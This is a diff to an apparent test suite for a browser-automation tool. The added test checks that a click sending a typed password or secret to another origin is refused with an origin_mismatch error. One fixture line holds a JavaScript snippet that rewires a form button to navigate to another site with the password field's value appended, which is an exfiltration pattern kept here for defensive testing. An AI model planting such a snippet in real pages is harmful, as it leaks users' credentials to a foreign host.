@@ -96,6 +96,35 @@ async def test_a_click_submits_no_secret_to_another_origin(dom: Dom, other: Site
     assert (kept, await dom.evaluate("window.sent")) == (None, True)
 
 
+LATER = {
+    "in the handler": CHANGES["in the handler"],
+    "by the button": CHANGES["by the button"],
+    "by a script": CHANGES["by a script"],
+    "by an address": CHANGES["by an address"],
+    "by another button": "f.lastElementChild.type = 'button';"
+    "f.onclick = () => { location = 'AWAY?' + f.p.value }",
+}
+
+
+@pytest.mark.parametrize("change", LATER.values(), ids=LATER.keys())
+@pytest.mark.parametrize("label", ["Password", "Name"])
+async def test_a_click_is_watched_until_a_secret_is_sent(
+    dom: Dom, other: Site, change: str, label: str
+) -> None:
+    """The target changes with the click that comes after the typing; a secret makes any field one."""
+    await dom.open(form("action=/in", change.replace("AWAY", f"{other.origin}/x")))
+    entry = {"label": label, "text": "ropewalk14", "secret": True}
+    await dom.act("enter_data", form_data=[entry], submit=False)
+    snapshot = await dom.snapshot()
+    button = next(each for each in snapshot["elements"] if each["role"] == "button")
+    error = await dom.fail("click", pp_id=button["id"], allow_origin=[other.origin])
+
+    assert "ropewalk14" not in str(snapshot)
+    assert error["kind"] == "origin_mismatch"
+    assert dom.page.url.startswith(dom.site.origin)
+    assert await dom.evaluate(TYPED) == "ropewalk14"
+
+
 async def test_a_search_is_not_typed_for_another_origin(dom: Dom, other: Site) -> None:
     """The base of the page counts, and names of controls hide nothing."""
     await dom.open(
